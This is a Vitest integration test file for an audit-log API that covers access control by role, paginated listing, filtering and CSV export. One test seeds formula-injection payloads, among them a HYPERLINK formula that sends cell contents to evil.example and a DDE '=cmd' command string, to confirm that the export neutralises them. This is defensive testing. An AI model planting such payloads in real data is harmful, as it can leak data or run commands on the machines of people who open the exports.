import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { auditLogs } from "../../../db/schema/index";
import { writeAuditLog } from "../../../src/lib/server/audit/audit";
import { createUser } from "../../../src/lib/server/auth/user";
import { startBuiltServer, type RunningServer } from "../../support/server";
import { createTestUser, type TestUser } from "../../support/users";

let server: RunningServer;
const who: Record<string, TestUser> = {};

const get = (path: string, user: TestUser | null) =>
  fetch(server.url + path, { headers: user ? { cookie: `b1_session=${user.token}` } : {}, redirect: "manual" });

beforeAll(async () => {
  server = await startBuiltServer();
  for (const role of ["admin", "security", "lider"]) who[role] = await createTestUser(server.db, [role]);
  for (let i = 0; i < 130; i++) {
    await writeAuditLog(server.db, {
      actionType: i % 2 ? "user_login_success" : "user_logout",
      result: i % 3 ? "success" : "failure",
      details: { i },
    });
  }
  // A type this version does not know (e.g. written by a newer one) goes straight into the table.
  await server.db.insert(auditLogs).values({
    userId: who.lider!.id,
    actionType: "acao_desconhecida",
    result: "blocked",
    actionDetails: JSON.stringify({ motivo: 'teste; com vírgula, e "aspas"' }),
  });
});
afterAll(() => server?.stop());

describe("audit log API", () => {
  it("is readable by admin and security, not by lider or anonymous", async () => {
    expect((await get("/api/audit-logs", who.admin!)).status).toBe(200);
    expect((await get("/api/audit-logs", who.security!)).status).toBe(200);
    expect((await get("/api/audit-logs", who.lider!)).status).toBe(403);
    expect((await get("/api/audit-logs", null)).status).toBe(401);
    expect((await get("/api/audit-logs/export.csv", who.lider!)).status).toBe(403);
    expect((await get("/audit-logs", who.security!)).status).toBe(200);
    expect((await get("/audit-logs", who.lider!)).headers.get("location")).toBe("/acesso-negado?pagina=%2Faudit-logs");
  });

  it("returns the latest 100 newest first, then pages by keyset without gaps or repeats", async () => {
    const first = (await (await get("/api/audit-logs", who.admin!)).json()) as {
      rows: { id: number; createdAt: number; userLabel: string }[];
      nextCursor: string;
      timeZone: string;
    };
    expect(first.rows).toHaveLength(100);
    expect(first.timeZone).toBe("America/Sao_Paulo");
    const ids = first.rows.map((r) => r.id);
    expect([...ids].sort((a, b) => b - a)).toEqual(ids);
    const second = (await (await get(`/api/audit-logs?cursor=${first.nextCursor}`, who.admin!)).json()) as { rows: { id: number }[] };
    expect(second.rows.length).toBeGreaterThan(30);
    expect(second.rows.some((r) => ids.includes(r.id))).toBe(false);
    expect(Math.max(...second.rows.map((r) => r.id))).toBeLessThan(Math.min(...ids));
    expect(first.rows.find((r) => r.userLabel)?.userLabel).toBeTruthy();
  });

  it("filters by action, result and user, and the CSV has exactly the filtered rows", async () => {
    const query = "action=user_logout&result=failure";
    const data = (await (await get(`/api/audit-logs?${query}`, who.admin!)).json()) as {
      rows: { actionType: string; result: string; userLabel: string }[];
    };
    expect(data.rows.length).toBeGreaterThan(0);
    expect(data.rows.every((r) => r.actionType === "user_logout" && r.result === "failure" && r.userLabel === "Sistema")).toBe(true);
    const csv = await (await get(`/api/audit-logs/export.csv?${query}`, who.admin!)).text();
    const lines = csv
      .replace(/^\uFEFF/, "")
      .trim()
      .split("\r\n");
    expect(lines[0]).toBe("Data/Hora,Usuário,E-mail,Ação,Resultado,Detalhes,IP,User-Agent,Detalhes (legível)");
    expect(lines).toHaveLength(data.rows.length + 1);
    expect(lines.slice(1).every((line) => line.includes(",Logout,Falha,"))).toBe(true);
    expect(lines[1]).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}:\d{2},Sistema,/);

    const byUser = (await (await get(`/api/audit-logs?user=${encodeURIComponent(who.lider!.email)}`, who.admin!)).json()) as {
      rows: { actionType: string }[];
    };
    expect(byUser.rows.map((r) => r.actionType)).toContain("acao_desconhecida");
    const quoted = await (await get(`/api/audit-logs/export.csv?action=acao_desconhecida`, who.admin!)).text();
    expect(quoted).toContain('"{""motivo"":""teste; com vírgula, e \\""aspas\\""""}"');
  });

  it("an attacker's user agent or full name never reaches a spreadsheet as a formula", async () => {
    const created = await createUser(server.db, {
      email: `planilha-${Date.now()}@b1.example.com`,
      fullName: '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
      password: "Senha@Teste1",
      roleNames: ["lider"],
      confirmed: true,
    });
    if (!created.ok) throw new Error(created.error);
    const attacker = { id: created.userId };
    await writeAuditLog(server.db, {
      userId: attacker.id,
      actionType: "user_login_attempt",
      result: "failure",
      ipAddress: "+55",
      userAgent: "=cmd|' /C calc'!A0",
      details: { tab: "\tx" },
    });
    await writeAuditLog(server.db, { actionType: "user_login_attempt", result: "failure", userAgent: "@SUM(1+1)" });
    await writeAuditLog(server.db, { actionType: "user_login_attempt", result: "failure", userAgent: "-2+3" });
    await writeAuditLog(server.db, { actionType: "user_login_attempt", result: "failure", userAgent: "\tcalc" });
    await writeAuditLog(server.db, { actionType: "user_login_attempt", result: "failure", userAgent: "\rcalc" });
    // Full-width forms, which spreadsheets in East Asian locales read as the ASCII operators (issue 62).
    for (const userAgent of ["＝cmd|' /C calc'!A0", "＋55", "－2+3", "＠SUM(1+1)"]) {
      await writeAuditLog(server.db, { actionType: "user_login_attempt", result: "failure", userAgent });
    }
    const csv = await (await get("/api/audit-logs/export.csv?action=user_login_attempt", who.admin!)).text();
    // Every cell that a spreadsheet would evaluate starts with a quote inside a quoted field.
    expect(csv).toContain(`"'=cmd|' /C calc'!A0"`);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clique"")"`);
    expect(csv).toContain(`"'+55"`);
    expect(csv).toContain(`"'@SUM(1+1)"`);
    expect(csv).toContain(`"'-2+3"`);
    expect(csv).toContain(`"'\tcalc"`);
    expect(csv).toContain(`"'\rcalc"`);
    const cells = csv.split(/,|\r\n/).map((cell) => cell.replace(/^"/, ""));
    expect(csv).toContain(`"'＝cmd|' /C calc'!A0"`);
    expect(csv).toContain(`"'＋55"`);
    expect(csv).toContain(`"'－2+3"`);
    expect(csv).toContain(`"'＠SUM(1+1)"`);
    expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
  });

  it("exports with ';' as separator on ?sep=; (Excel pt-BR), keeping the formula-safe cells", async () => {
    const response = await get("/api/audit-logs/export.csv?action=user_login_attempt&sep=%3B", who.admin!);
    expect(response.status).toBe(200);
    const csv = await response.text();
    const [header] = csv.replace(/^\uFEFF/, "").split("\r\n");
    expect(header).toBe("Data/Hora;Usuário;E-mail;Ação;Resultado;Detalhes;IP;User-Agent;Detalhes (legível)");
    expect(csv).toContain(`;"'=cmd|' /C calc'!A0"`);
    expect(csv).toContain(`"'+55";`);
    const cells = csv.split(/;|\r\n/).map((cell) => cell.replace(/^"/, ""));
    expect(csv).toContain(`"'＝cmd|' /C calc'!A0"`);
    expect(csv).toContain(`"'＋55"`);
    expect(csv).toContain(`"'－2+3"`);
    expect(csv).toContain(`"'＠SUM(1+1)"`);
    expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
    const bad = await get("/api/audit-logs/export.csv?sep=%7C", who.admin!);
    expect(bad.status).toBe(400);
    expect(await bad.json()).toEqual({ error: "Separador inválido: use , ou ;" });
  });

  it("rejects a malformed cursor or result with a Portuguese message", async () => {
    const response = await get("/api/audit-logs?cursor=abc", who.admin!);
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ error: "Cursor inválido" });
  });
});
